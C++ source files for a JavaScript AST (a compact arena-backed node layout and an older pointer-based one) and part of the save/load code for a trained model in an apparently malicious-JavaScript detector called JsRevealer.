//   LogicalExpression      str = operator; children = {left, right}
//   MemberExpression       flag kComputed; children = {object, property}
//   ConditionalExpression  children = {test, consequent, alternate}
//   CallExpression         children = {callee, arg...}
//   NewExpression          children = {callee, arg...}
//   ThisExpression         (no payload)
//   BlockStatement         children = statements
//   ExpressionStatement    children = {expression}
//   IfStatement            children = {test, consequent, alternate?}
//   LabeledStatement       str = label; children = {body}
//   BreakStatement         str = optional label
//   ContinueStatement      str = optional label
//   WithStatement          children = {object, body}
//   SwitchStatement        children = {discriminant, SwitchCase...}
//   SwitchCase             children = {test?, consequent...}; test==nullptr
//                          encodes `default:` (slot always present)
//   ReturnStatement        children = {argument?} (may be empty)
//   ThrowStatement         children = {argument}
//   TryStatement           children = {block, CatchClause?, finalizer?}
//   CatchClause            children = {param, body}
//   WhileStatement         children = {test, body}
//   DoWhileStatement       children = {body, test}
//   ForStatement           children = {init?, test?, update?, body}
//   ForInStatement         children = {left, right, body}; flag kOfLoop for
//                          for-of
//   VariableDeclaration    str = kind ("var"/"let"/"const");
//                          children = VariableDeclarator...
//   VariableDeclarator     children = {id, init?}
//   EmptyStatement         (no payload)
//   DebuggerStatement      (no payload)
#pragma once

#include <cstddef>
#include <cstdint>
#include <iterator>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "js/atom_table.h"

namespace jsrev::js {

enum class NodeKind : std::uint8_t {
  kProgram,
  kIdentifier,
  kLiteral,
  kArrayExpression,
  kObjectExpression,
  kProperty,
  kFunctionDeclaration,
  kFunctionExpression,
  kArrowFunctionExpression,
  kSequenceExpression,
  kUnaryExpression,
  kUpdateExpression,
  kBinaryExpression,
  kAssignmentExpression,
  kLogicalExpression,
  kMemberExpression,
  kConditionalExpression,
  kCallExpression,
  kNewExpression,
  kThisExpression,
  kBlockStatement,
  kExpressionStatement,
  kIfStatement,
  kLabeledStatement,
  kBreakStatement,
  kContinueStatement,
  kWithStatement,
  kSwitchStatement,
  kSwitchCase,
  kReturnStatement,
  kThrowStatement,
  kTryStatement,
  kCatchClause,
  kWhileStatement,
  kDoWhileStatement,
  kForStatement,
  kForInStatement,
  kVariableDeclaration,
  kVariableDeclarator,
  kEmptyStatement,
  kDebuggerStatement,
};

/// Number of distinct node kinds (for feature vectors indexed by kind).
inline constexpr int kNodeKindCount =
    static_cast<int>(NodeKind::kDebuggerStatement) + 1;

/// ESTree name of a node kind, e.g. "BinaryExpression".
std::string_view node_kind_name(NodeKind k) noexcept;

enum class LiteralType : std::uint8_t {
  kNone,    // not a literal node
  kString,
  kNumber,
  kBoolean,
  kNull,
  kRegex,
};

/// Index of a node within its TreeStore ("slot"); after compaction the slot
/// equals the preorder id. kNullId marks a hole (nullptr child).
using NodeId = std::uint32_t;
inline constexpr NodeId kNullId = 0xFFFFFFFFu;

class TreeStore;
struct Node;

// ---------------------------------------------------------------------------
// Atom: interned string payload with a std::string-shaped read surface.
// Copy CONSTRUCTION copies (table, id) verbatim — correct within one arena
// (node copies during compaction). Copy ASSIGNMENT onto an atom already
// bound to a different table re-interns by content, which is what
// cross-arena payload copies (clone) need.
// ---------------------------------------------------------------------------

class Atom {
 public:
  Atom() = default;
  Atom(AtomTable* tab, AtomId id) noexcept : tab_(tab), id_(id) {}
  Atom(const Atom&) = default;

  Atom& operator=(const Atom& o) {
    if (tab_ == nullptr || tab_ == o.tab_) {
      tab_ = o.tab_;
      id_ = o.id_;
    } else {
      id_ = tab_->intern(o.view());
    }
    return *this;
  }
  Atom& operator=(std::string_view s) {
    id_ = tab_->intern(s);
    return *this;
  }
  Atom& operator=(const std::string& s) { return *this = std::string_view(s); }
  Atom& operator=(const char* s) { return *this = std::string_view(s); }

  AtomId id() const noexcept { return id_; }
  const AtomTable* table() const noexcept { return tab_; }

  std::string_view view() const noexcept {
    return tab_ != nullptr ? tab_->view(id_) : std::string_view{};
  }
  /// Cached fnv1a64 of the payload (== fnv1a64(view())).
  std::uint64_t hash() const noexcept {
    return tab_ != nullptr ? tab_->hash(id_) : fnv1a64({});
  }

  operator std::string_view() const noexcept { return view(); }
  operator std::string() const { return std::string(view()); }

  bool empty() const noexcept { return size() == 0; }
  std::size_t size() const noexcept {
    return tab_ != nullptr ? tab_->length(id_) : 0;
  }
  const char* data() const noexcept { return view().data(); }
  const char* begin() const noexcept { return view().data(); }
  const char* end() const noexcept {
    const std::string_view v = view();
    return v.data() + v.size();
  }
  char operator[](std::size_t i) const noexcept { return view()[i]; }
  std::string substr(std::size_t pos,
                     std::size_t n = std::string_view::npos) const {
    return std::string(view().substr(pos, n));
  }
  std::size_t find(char c, std::size_t pos = 0) const noexcept {
    return view().find(c, pos);
  }
  std::size_t find(std::string_view s, std::size_t pos = 0) const noexcept {
    return view().find(s, pos);
  }

 private:
  AtomTable* tab_ = nullptr;
  AtomId id_ = 0;
};

inline bool operator==(const Atom& a, const Atom& b) noexcept {
  if (a.table() == b.table()) return a.id() == b.id();
  return a.view() == b.view();
}
inline bool operator==(const Atom& a, std::string_view b) noexcept {
  return a.view() == b;
}
inline bool operator==(const Atom& a, const std::string& b) noexcept {
  return a.view() == std::string_view(b);
}
inline bool operator==(const Atom& a, const char* b) noexcept {
  return a.view() == std::string_view(b);
}
inline std::string operator+(const Atom& a, const char* b) {
  return std::string(a.view()) + b;
}
inline std::string operator+(const char* a, const Atom& b) {
  return a + std::string(b.view());
}
inline std::string operator+(const Atom& a, const std::string& b) {
  return std::string(a.view()) + b;
}
inline std::string operator+(const std::string& a, const Atom& b) {
  return a + std::string(b.view());
}
inline std::string operator+(std::string&& a, const Atom& b) {
  a.append(b.view());
  return std::move(a);
}
inline std::string operator+(const Atom& a, const Atom& b) {
  return std::string(a.view()) + std::string(b.view());
}

// ---------------------------------------------------------------------------
// ChildList: (offset, length, capacity) slice into the arena's shared
// NodeId pool, shimming the std::vector<Node*> API. Like the vector it
// replaces, a const ChildList hands out non-const Node* — constness applies
// to the list structure, not the pointees. Growth relocates the slice within
// the pool (amortized doubling), so iterators/ChildRefs obey std::vector
// invalidation rules for the list they refer to; mutating OTHER nodes'
// lists never invalidates them.
// ---------------------------------------------------------------------------

class ChildList;

/// Proxy reference returned by ChildList::operator[]; reads/writes the
/// NodeId behind a child slot while presenting as a Node*.
class ChildRef {
 public:
  ChildRef(TreeStore* s, std::uint32_t pos) noexcept : s_(s), pos_(pos) {}
  operator Node*() const noexcept;
  Node* operator->() const noexcept { return static_cast<Node*>(*this); }
  ChildRef& operator=(Node* n) noexcept;
  ChildRef& operator=(const ChildRef& o) noexcept {
    return *this = static_cast<Node*>(o);
  }

 private:
  TreeStore* s_;
  std::uint32_t pos_;  // absolute index into the pool
};

class ChildIter {
 public:
  using iterator_category = std::random_access_iterator_tag;
  using value_type = Node*;
  using difference_type = std::ptrdiff_t;
  using pointer = Node* const*;
  using reference = Node*;

  ChildIter() = default;
  ChildIter(const ChildList* list, std::uint32_t i) noexcept
      : list_(list), i_(i) {}

  Node* operator*() const noexcept;
  Node* operator[](difference_type d) const noexcept {
    return *(*this + d);
  }

  ChildIter& operator++() noexcept { ++i_; return *this; }
  ChildIter operator++(int) noexcept { ChildIter t = *this; ++i_; return t; }
  ChildIter& operator--() noexcept { --i_; return *this; }
  ChildIter operator--(int) noexcept { ChildIter t = *this; --i_; return t; }
  ChildIter& operator+=(difference_type d) noexcept {
    i_ = static_cast<std::uint32_t>(static_cast<difference_type>(i_) + d);
    return *this;
  }
  ChildIter& operator-=(difference_type d) noexcept { return *this += -d; }

  friend ChildIter operator+(ChildIter it, difference_type d) noexcept {
    it += d;
    return it;
  }
  friend ChildIter operator+(difference_type d, ChildIter it) noexcept {
    it += d;
    return it;
  }
  friend ChildIter operator-(ChildIter it, difference_type d) noexcept {
    it -= d;
    return it;
  }
  friend difference_type operator-(const ChildIter& a,
                                   const ChildIter& b) noexcept {
    return static_cast<difference_type>(a.i_) -
           static_cast<difference_type>(b.i_);
  }
  friend bool operator==(const ChildIter& a, const ChildIter& b) noexcept {
    return a.i_ == b.i_;
  }
  friend bool operator!=(const ChildIter& a, const ChildIter& b) noexcept {
    return a.i_ != b.i_;
  }
  friend bool operator<(const ChildIter& a, const ChildIter& b) noexcept {
    return a.i_ < b.i_;
  }

  std::uint32_t index() const noexcept { return i_; }

 private:
  const ChildList* list_ = nullptr;
  std::uint32_t i_ = 0;
};

class ChildList {
 public:
  using iterator = ChildIter;
  using const_iterator = ChildIter;
  using value_type = Node*;

  ChildList() = default;

  std::size_t size() const noexcept { return len(); }
  bool empty() const noexcept { return len() == 0; }

  Node* at(std::uint32_t i) const noexcept;
  Node* operator[](std::size_t i) const noexcept {
    return at(static_cast<std::uint32_t>(i));
  }
  ChildRef operator[](std::size_t i) noexcept {
    return ChildRef(store_, off_ + static_cast<std::uint32_t>(i));
  }
  Node* back() const noexcept { return at(len() - 1); }
  Node* front() const noexcept { return at(0); }

  ChildIter begin() const noexcept { return ChildIter(this, 0); }
  ChildIter end() const noexcept { return ChildIter(this, len()); }

  void push_back(Node* n);
  void pop_back() noexcept { --len_; }
  void clear() noexcept { len_ = 0; }
  // Capacity is implicit (see len_ below), so there is nowhere to remember a
  // reservation; grow() recovers the amortized-doubling behavior on its own.
  void reserve(std::size_t) noexcept {}
  ChildIter insert(ChildIter pos, Node* n);

  ChildList& operator=(const std::vector<Node*>& v);

  // --- arena plumbing (TreeStore/compaction internals) ---
  void bind(TreeStore* s) noexcept { store_ = s; }
  void set_slice(std::uint32_t off, std::uint32_t len,
                 std::uint32_t cap) noexcept {
    off_ = off;
    len_ = cap == len ? (len | kExactBit) : len;
  }
  std::uint32_t slice_offset() const noexcept { return off_; }
  TreeStore* store() const noexcept { return store_; }

 private:
  // Capacity is not stored: a slice is either exact (kExactBit set, capacity
  // == length; what compaction emits) or build-mode, where slices are always
  // allocated at power-of-two sizes so ceil_pow2(len) understates the real
  // allocation at worst (after pop_back/shrinking assignment), never
  // overstates it. Dropping the cap word keeps Node at 64 bytes.
  static constexpr std::uint32_t kExactBit = 0x80000000u;

  std::uint32_t len() const noexcept { return len_ & ~kExactBit; }
  std::uint32_t capacity_hint() const noexcept {
    const std::uint32_t n = len();
    if ((len_ & kExactBit) != 0) return n;
    if (n == 0) return 0;
    std::uint32_t c = 2;
    while (c < n) c <<= 1;
    return c;
  }
  void grow(std::uint32_t min_cap);

  TreeStore* store_ = nullptr;
  std::uint32_t off_ = 0;
  std::uint32_t len_ = 0;
};

// ---------------------------------------------------------------------------
// Node: 64 bytes — exactly one cache line (down from 96 + one heap
// child-vector + string storage per node in the pointer-heavy layout).
// ---------------------------------------------------------------------------

struct Node {
  NodeKind kind = NodeKind::kProgram;
  LiteralType lit = LiteralType::kNone;

  // Per-kind boolean flags.
  static constexpr std::uint8_t kComputed = 1;  // a[b] member / computed key
  static constexpr std::uint8_t kPrefix = 2;    // ++x vs x++
  static constexpr std::uint8_t kOfLoop = 4;    // for-of vs for-in
  std::uint8_t flags = 0;
  bool bval = false;

  // 1-based source line of the construct's first token; 0 when unknown (nodes
  // synthesized by transforms). Stamped by the parser and propagated upward by
  // finalize_tree / compaction so every parsed ancestor carries its earliest
  // descendant's line.
  std::uint32_t line = 0;

  // Filled by AstArena::compact / finalize_tree: stable preorder id used by
  // path extraction and data-flow analysis. After compaction id == self.
  std::int32_t id = -1;
  // Physical slot of this node in its TreeStore (assigned at allocation,
  // remapped to the preorder index by compaction).
  NodeId self = kNullId;

  // Scalar payload; meaning depends on kind (see header comment).
  double num = 0.0;
  Atom str;
  ChildList children;

  Node* parent = nullptr;

  bool has_flag(std::uint8_t f) const noexcept { return (flags & f) != 0; }

  bool is_function() const noexcept {
    return kind == NodeKind::kFunctionDeclaration ||
           kind == NodeKind::kFunctionExpression ||
           kind == NodeKind::kArrowFunctionExpression;
  }
};

/// Replaces `dst`'s payload (kind, flags, scalars, child slice) with `src`'s
/// while keeping dst's physical slot identity. A plain `*dst = *src` also
/// copies `self`, so any child list later rebuilt from Node* values would
/// silently re-point dst's tree position at the donor's slot — resurrecting
/// whatever stale subtree the donor holds by then. The donor must be
/// abandoned by the caller: the two nodes share one child slice afterwards,
/// and only the node that stays in the tree may keep being mutated.
inline void replace_node(Node* dst, const Node& src) {
  const NodeId keep = dst->self;
  *dst = src;
  dst->self = keep;
}

// ---------------------------------------------------------------------------
// TreeStore: the arena's backing storage. Heap-allocated and address-stable
// (AstArena holds it by unique_ptr), so nodes can point to it across arena
// moves.
// ---------------------------------------------------------------------------

class TreeStore {
 public:
  TreeStore() = default;
  ~TreeStore();
  TreeStore(const TreeStore&) = delete;
  TreeStore& operator=(const TreeStore&) = delete;

  Node* alloc(NodeKind kind) {
    const NodeId slot = compact_count_ + overflow_count_;
    const std::uint32_t in_chunk = overflow_count_ & kChunkMask;
    if (in_chunk == 0) {
      chunks_.push_back(std::make_unique<Node[]>(kChunkSize));
    }
    ++overflow_count_;
    ++total_allocated_;
    Node* n = &chunks_.back()[in_chunk];
    n->kind = kind;
    n->self = slot;
    n->str = Atom(&atoms_, 0);
    n->children.bind(this);
    return n;
  }

  Node* node_ptr(NodeId slot) noexcept {
    if (slot < compact_count_) return &compact_[slot];
    const NodeId o = slot - compact_count_;
    return &chunks_[o >> kChunkShift][o & kChunkMask];
  }

  std::vector<NodeId>& pool() noexcept { return pool_; }
  const std::vector<NodeId>& pool() const noexcept { return pool_; }
  AtomTable& atoms() noexcept { return atoms_; }
  const AtomTable& atoms() const noexcept { return atoms_; }

  /// Rewrites the tree under `root` into contiguous preorder storage:
  /// preorder ids/self, parent pointers, line propagation, children as
  /// preorder-ordered slices in a fresh pool. Unreachable (detached) nodes
  /// are dropped. Every outside Node* except the returned root is
  /// invalidated. Also settles the obs arena gauges.
  Node* compact(Node* root);

  /// Total nodes ever allocated from this store, including nodes dropped by
  /// compaction (mirrors the old AstArena::size() contract).
  std::size_t allocated() const noexcept { return total_allocated_; }
  /// Nodes in the contiguous preorder region (0 before the first compact).
  std::size_t compact_size() const noexcept { return compact_count_; }

  /// Heap footprint of node storage + child pool + atom table.
  std::size_t memory_bytes() const noexcept {
    return compact_.capacity() * sizeof(Node) +
           chunks_.size() * kChunkSize * sizeof(Node) +
           pool_.capacity() * sizeof(NodeId) + atoms_.memory_bytes();
  }

  /// Pre-sizes the pool and atom storage from the source size (parser
  /// heuristic: ~1 AST node per 6 source bytes, ~1 child slot per node).
  void reserve_for_source(std::size_t source_bytes) {
    const std::size_t nodes = source_bytes / 6 + 8;
    pool_.reserve(nodes + nodes / 2);
    atoms_.reserve_bytes(source_bytes / 8 + 64);
  }

 private:
  static constexpr std::uint32_t kChunkShift = 7;
  static constexpr std::uint32_t kChunkSize = 1u << kChunkShift;
  static constexpr std::uint32_t kChunkMask = kChunkSize - 1;

  /// Publishes allocation/footprint deltas to the obs registry (called from
  /// compact() and the destructor so the hot path never touches metrics).
  void settle_gauges(bool dying) noexcept;

  std::vector<Node> compact_;  // preorder nodes; capacity fixed per compact
  std::uint32_t compact_count_ = 0;
  std::vector<std::unique_ptr<Node[]>> chunks_;  // build/post-compact nodes
  std::uint32_t overflow_count_ = 0;
  std::vector<NodeId> pool_;
  AtomTable atoms_;
  std::size_t total_allocated_ = 0;
  // Gauge bookkeeping: what this store has already published.
  std::size_t reported_nodes_ = 0;
  std::size_t reported_bytes_ = 0;
  std::size_t reported_atom_bytes_ = 0;
};

// --- out-of-line-in-header shims that need TreeStore complete --------------

inline ChildRef::operator Node*() const noexcept {
  const NodeId id = s_->pool()[pos_];
  return id == kNullId ? nullptr : s_->node_ptr(id);
}

inline ChildRef& ChildRef::operator=(Node* n) noexcept {
  s_->pool()[pos_] = n == nullptr ? kNullId : n->self;
  return *this;
}

inline Node* ChildIter::operator*() const noexcept { return list_->at(i_); }

inline Node* ChildList::at(std::uint32_t i) const noexcept {
  const NodeId id = store_->pool()[off_ + i];
  return id == kNullId ? nullptr : store_->node_ptr(id);
}

inline void ChildList::grow(std::uint32_t min_cap) {
  std::uint32_t cap = 2;
  while (cap < min_cap) cap <<= 1;
  std::vector<NodeId>& p = store_->pool();
  const std::uint32_t off = static_cast<std::uint32_t>(p.size());
  p.resize(p.size() + cap, kNullId);
  const std::uint32_t n = len();
  for (std::uint32_t i = 0; i < n; ++i) p[off + i] = p[off_ + i];
  off_ = off;
  len_ = n;  // clears kExactBit: the fresh slice is build-mode sized
}

inline void ChildList::push_back(Node* n) {
  if (len() == capacity_hint()) grow(len() + 1);
  store_->pool()[off_ + len_++] = n == nullptr ? kNullId : n->self;
}

inline ChildIter ChildList::insert(ChildIter pos, Node* n) {
  const std::uint32_t i = pos.index();
  if (len() == capacity_hint()) grow(len() + 1);
  std::vector<NodeId>& p = store_->pool();
  for (std::uint32_t k = len(); k > i; --k) p[off_ + k] = p[off_ + k - 1];
  p[off_ + i] = n == nullptr ? kNullId : n->self;
  ++len_;
  return ChildIter(this, i);
}

inline ChildList& ChildList::operator=(const std::vector<Node*>& v) {
  len_ = 0;
  if (!v.empty() && v.size() > capacity_hint()) {
    grow(static_cast<std::uint32_t>(v.size()));
  }
  std::vector<NodeId>& p = store_->pool();
  for (Node* n : v) p[off_ + len_++] = n == nullptr ? kNullId : n->self;
  return *this;
}

// ---------------------------------------------------------------------------
// AstArena / Ast: the public owning handles (API-compatible with the
// pointer-heavy layout).
// ---------------------------------------------------------------------------

/// Owns every node of one tree. Nodes are allocated into the arena's
/// TreeStore and freed together; pointers remain valid for the arena's
/// lifetime (modulo compact(), see the header comment).
class AstArena {
 public:
  AstArena() : store_(std::make_unique<TreeStore>()) {}
  AstArena(const AstArena&) = delete;
  AstArena& operator=(const AstArena&) = delete;
  AstArena(AstArena&&) = default;
  AstArena& operator=(AstArena&&) = default;

  Node* make(NodeKind kind) { return store_->alloc(kind); }

  Node* identifier(std::string_view name) {
    Node* n = make(NodeKind::kIdentifier);
    n->str = name;
    return n;
  }

  Node* string_literal(std::string_view value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kString;
    n->str = value;
    return n;
  }

  Node* number_literal(double value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kNumber;
    n->num = value;
    return n;
  }

  Node* bool_literal(bool value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kBoolean;
    n->bval = value;
    return n;
  }

  Node* null_literal() {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kNull;
    return n;
  }

  /// Total nodes ever allocated (including any dropped by compaction).
  std::size_t size() const noexcept { return store_->allocated(); }

  /// See TreeStore::compact. Returns the relocated root.
  Node* compact(Node* root) { return store_->compact(root); }

  TreeStore& store() noexcept { return *store_; }
  const TreeStore& store() const noexcept { return *store_; }

  /// Heap footprint (nodes + child pool + atoms) for the obs gauges and
  /// bench_ast_layout.
  std::size_t memory_bytes() const noexcept { return store_->memory_bytes(); }

 private:
  std::unique_ptr<TreeStore> store_;
};

/// A parsed program: the arena plus its root. Movable, non-copyable.
struct Ast {
  AstArena arena;
  Node* root = nullptr;

  /// Compacts the tree into preorder-contiguous storage (root is updated).
  void compact() {
    if (root != nullptr) root = arena.compact(root);
  }
};

/// Assigns preorder ids and parent pointers below `root` (skips nullptr
/// children), and pulls each node's `line` back to the minimum known line in
/// its subtree (nodes the parser allocated after consuming part of their
/// children would otherwise carry a later token's line). Returns the number
/// of nodes visited. Must be re-run after any structural rewrite before
/// analyses that rely on ids/parents. Does NOT relocate nodes (unlike
/// AstArena::compact), so transforms may keep Node* across it.
int finalize_tree(Node* root);

}  // namespace jsrev::js
