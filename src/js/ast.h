// ESTree-style abstract syntax tree.
//
// Nodes are arena-allocated and use a uniform representation: a kind tag, a
// small scalar payload (string / number / flags), and an ordered child list
// whose slot meanings are fixed per kind (documented below). The uniform
// layout keeps generic traversal, path extraction, and rewriting transforms
// simple, at the cost of per-kind accessors instead of per-kind structs.
//
// Child slot conventions (slots may be nullptr where marked optional):
//   Program                children = statements
//   Identifier             str = name
//   Literal                lit = literal type; str = string/regex raw,
//                          num = numeric value, bval = bool value
//   ArrayExpression        children = elements (nullptr for holes)
//   ObjectExpression       children = Property nodes
//   Property               children = {key, value}; flag kComputed
//   FunctionDeclaration    str = name; children = {param..., body}
//   FunctionExpression     str = optional name; children = {param..., body}
//   ArrowFunctionExpression children = {param..., body}
//   SequenceExpression     children = expressions
//   UnaryExpression        str = operator; children = {argument}
//   UpdateExpression       str = operator; flag kPrefix; children = {argument}
//   BinaryExpression       str = operator; children = {left, right}
//   AssignmentExpression   str = operator; children = {left, right}
//   LogicalExpression      str = operator; children = {left, right}
//   MemberExpression       flag kComputed; children = {object, property}
//   ConditionalExpression  children = {test, consequent, alternate}
//   CallExpression         children = {callee, arg...}
//   NewExpression          children = {callee, arg...}
//   ThisExpression         (no payload)
//   BlockStatement         children = statements
//   ExpressionStatement    children = {expression}
//   IfStatement            children = {test, consequent, alternate?}
//   LabeledStatement       str = label; children = {body}
//   BreakStatement         str = optional label
//   ContinueStatement      str = optional label
//   WithStatement          children = {object, body}
//   SwitchStatement        children = {discriminant, SwitchCase...}
//   SwitchCase             children = {test?, consequent...}; test==nullptr
//                          encodes `default:` (slot always present)
//   ReturnStatement        children = {argument?} (may be empty)
//   ThrowStatement         children = {argument}
//   TryStatement           children = {block, CatchClause?, finalizer?}
//   CatchClause            children = {param, body}
//   WhileStatement         children = {test, body}
//   DoWhileStatement       children = {body, test}
//   ForStatement           children = {init?, test?, update?, body}
//   ForInStatement         children = {left, right, body}; flag kOfLoop for
//                          for-of
//   VariableDeclaration    str = kind ("var"/"let"/"const");
//                          children = VariableDeclarator...
//   VariableDeclarator     children = {id, init?}
//   EmptyStatement         (no payload)
//   DebuggerStatement      (no payload)
#pragma once

#include <cstdint>
#include <deque>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

namespace jsrev::js {

enum class NodeKind : std::uint8_t {
  kProgram,
  kIdentifier,
  kLiteral,
  kArrayExpression,
  kObjectExpression,
  kProperty,
  kFunctionDeclaration,
  kFunctionExpression,
  kArrowFunctionExpression,
  kSequenceExpression,
  kUnaryExpression,
  kUpdateExpression,
  kBinaryExpression,
  kAssignmentExpression,
  kLogicalExpression,
  kMemberExpression,
  kConditionalExpression,
  kCallExpression,
  kNewExpression,
  kThisExpression,
  kBlockStatement,
  kExpressionStatement,
  kIfStatement,
  kLabeledStatement,
  kBreakStatement,
  kContinueStatement,
  kWithStatement,
  kSwitchStatement,
  kSwitchCase,
  kReturnStatement,
  kThrowStatement,
  kTryStatement,
  kCatchClause,
  kWhileStatement,
  kDoWhileStatement,
  kForStatement,
  kForInStatement,
  kVariableDeclaration,
  kVariableDeclarator,
  kEmptyStatement,
  kDebuggerStatement,
};

/// Number of distinct node kinds (for feature vectors indexed by kind).
inline constexpr int kNodeKindCount =
    static_cast<int>(NodeKind::kDebuggerStatement) + 1;

/// ESTree name of a node kind, e.g. "BinaryExpression".
std::string_view node_kind_name(NodeKind k) noexcept;

enum class LiteralType : std::uint8_t {
  kNone,    // not a literal node
  kString,
  kNumber,
  kBoolean,
  kNull,
  kRegex,
};

struct Node {
  NodeKind kind = NodeKind::kProgram;
  LiteralType lit = LiteralType::kNone;

  // Scalar payload; meaning depends on kind (see header comment).
  std::string str;
  double num = 0.0;
  bool bval = false;

  // Per-kind boolean flags.
  static constexpr std::uint8_t kComputed = 1;  // a[b] member / computed key
  static constexpr std::uint8_t kPrefix = 2;    // ++x vs x++
  static constexpr std::uint8_t kOfLoop = 4;    // for-of vs for-in
  std::uint8_t flags = 0;

  std::vector<Node*> children;

  // 1-based source line of the construct's first token; 0 when unknown (nodes
  // synthesized by transforms). Stamped by the parser and propagated upward by
  // finalize_tree so every parsed ancestor carries its earliest descendant's
  // line.
  std::uint32_t line = 0;

  // Filled by AstArena::finalize: stable preorder id and parent link, used by
  // path extraction and data-flow analysis.
  std::int32_t id = -1;
  Node* parent = nullptr;

  bool has_flag(std::uint8_t f) const noexcept { return (flags & f) != 0; }

  bool is_function() const noexcept {
    return kind == NodeKind::kFunctionDeclaration ||
           kind == NodeKind::kFunctionExpression ||
           kind == NodeKind::kArrowFunctionExpression;
  }
};

/// Owns every node of one tree. Nodes are trivially "leaked" into the arena
/// and freed together; pointers remain valid for the arena's lifetime.
class AstArena {
 public:
  AstArena() = default;
  AstArena(const AstArena&) = delete;
  AstArena& operator=(const AstArena&) = delete;
  AstArena(AstArena&&) = default;
  AstArena& operator=(AstArena&&) = default;

  Node* make(NodeKind kind) {
    nodes_.emplace_back();
    nodes_.back().kind = kind;
    return &nodes_.back();
  }

  Node* identifier(std::string name) {
    Node* n = make(NodeKind::kIdentifier);
    n->str = std::move(name);
    return n;
  }

  Node* string_literal(std::string value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kString;
    n->str = std::move(value);
    return n;
  }

  Node* number_literal(double value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kNumber;
    n->num = value;
    return n;
  }

  Node* bool_literal(bool value) {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kBoolean;
    n->bval = value;
    return n;
  }

  Node* null_literal() {
    Node* n = make(NodeKind::kLiteral);
    n->lit = LiteralType::kNull;
    return n;
  }

  std::size_t size() const noexcept { return nodes_.size(); }

 private:
  std::deque<Node> nodes_;  // deque: stable addresses across growth
};

/// A parsed program: the arena plus its root. Movable, non-copyable.
struct Ast {
  AstArena arena;
  Node* root = nullptr;
};

/// Assigns preorder ids and parent pointers below `root` (skips nullptr
/// children), and pulls each node's `line` back to the minimum known line in
/// its subtree (nodes the parser allocated after consuming part of their
/// children would otherwise carry a later token's line). Returns the number
/// of nodes visited. Must be re-run after any structural rewrite before
/// analyses that rely on ids/parents.
int finalize_tree(Node* root);

}  // namespace jsrev::js
