// JsRevealer trained-model stream persistence.
//
// Layout: MAGIC "JSRV" + version, the pipeline dimensions, then sections
// for the path vocabulary, attention model, cluster geometry,
// interpretability index, scaler, and the random-forest classifier.
//
// Three versions coexist. Version 1 is the original layout (no lint
// features); version 2 adds one u64 — the lint summary-vector width — right
// after the version field. Both encode the per-centroid benign-origin flags
// as one double per centroid. Version 3 (the current writer) always carries
// the lint width and packs the benign flags as u64 bitset words — the same
// words the JSRM artifact maps. The reader accepts all three; save_legacy()
// still emits v1/v2 so the tolerant-read and conversion paths stay covered.
//
// Malformed input surfaces as ser::ModelFormatError carrying the section
// name and the byte offset where the section began (satellite of the JSRM
// artifact work: no unchecked read reaches a std::logic_error or a crash).
#include <fstream>
#include <stdexcept>

#include "core/jsrevealer.h"
#include "ml/decision_tree.h"
#include "util/serialize.h"

namespace jsrev::core {

namespace {
constexpr std::uint64_t kVersionBase = 1;
constexpr std::uint64_t kVersionLint = 2;
constexpr std::uint64_t kVersionPacked = 3;
}  // namespace

void JsRevealer::save_stream(std::ostream& out, bool legacy) const {
  if (!trained_) {
    throw std::logic_error("JsRevealer::save: detector is not trained");
  }
  const auto* forest =
      dynamic_cast<const ml::RandomForest*>(classifier_.get());
  if (forest == nullptr) {
    throw std::logic_error(
        "JsRevealer::save: persistence supports the random-forest "
        "classifier only");
  }

  ser::write_tag(out, "JSRV");
  if (legacy) {
    // Models trained with lint features off are written as version 1, so
    // their bytes are identical to pre-lint builds.
    ser::write_u64(out, lint_dim_ == 0 ? kVersionBase : kVersionLint);
    if (lint_dim_ != 0) ser::write_u64(out, lint_dim_);
  } else {
    ser::write_u64(out, kVersionPacked);
    ser::write_u64(out, lint_dim_);
  }

  // Pipeline dimensions needed to interpret the sections.
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.embedding_dim));
  ser::write_u64(out, feature_dim_);
  ser::write_u64(out, clusters_removed_);
  ser::write_u64(out, cfg_.path.use_dataflow ? 1 : 0);
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.path.max_length));
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.path.max_width));

  vocab_.save(out);
  model_.save(out);

  ser::write_tag(out, "CLST");
  ser::write_doubles(out, centroids_.data());
  if (legacy) {
    std::vector<double> benign_flags(feature_dim_);
    for (std::size_t i = 0; i < feature_dim_; ++i) {
      benign_flags[i] = benign_bit(centroid_benign_.data(), i) ? 1.0 : 0.0;
    }
    ser::write_doubles(out, benign_flags);
  } else {
    ser::write_u64(out, centroid_benign_.size());
    for (const std::uint64_t w : centroid_benign_) ser::write_u64(out, w);
  }
  ser::write_doubles(out, centroid_radius_);
  ser::write_u64(out, central_path_.size());
  for (const std::string& p : central_path_) ser::write_string(out, p);

  scaler_.save(out);
  forest->save(out);
}

void JsRevealer::save(std::ostream& out) const {
  save_stream(out, /*legacy=*/false);
}

void JsRevealer::save_legacy(std::ostream& out) const {
  save_stream(out, /*legacy=*/true);
}

void JsRevealer::load(std::istream& in) {
  std::uint64_t version = 0;
  ser::with_section(in, "header", [&] {
    ser::expect_tag(in, "JSRV");
    version = ser::read_u64(in);
    if (version != kVersionBase && version != kVersionLint &&
        version != kVersionPacked) {
      throw ser::FormatError("unsupported model version " +
                             std::to_string(version));
    }
    lint_dim_ = version == kVersionBase ? 0 : ser::read_u64(in);
    if (lint_dim_ != 0 && lint_dim_ != lint::kLintFeatureDim) {
      throw ser::FormatError("lint feature width mismatch: file has " +
                             std::to_string(lint_dim_));
    }
    cfg_.lint_features = lint_dim_ != 0;

    cfg_.embedding_dim = static_cast<int>(ser::read_u64(in));
    feature_dim_ = ser::read_u64(in);
    clusters_removed_ = ser::read_u64(in);
    cfg_.path.use_dataflow = ser::read_u64(in) != 0;
    cfg_.path.max_length = static_cast<int>(ser::read_u64(in));
    cfg_.path.max_width = static_cast<int>(ser::read_u64(in));
    if (cfg_.embedding_dim <= 0 || cfg_.embedding_dim > (1 << 20) ||
        feature_dim_ > (1ULL << 24)) {
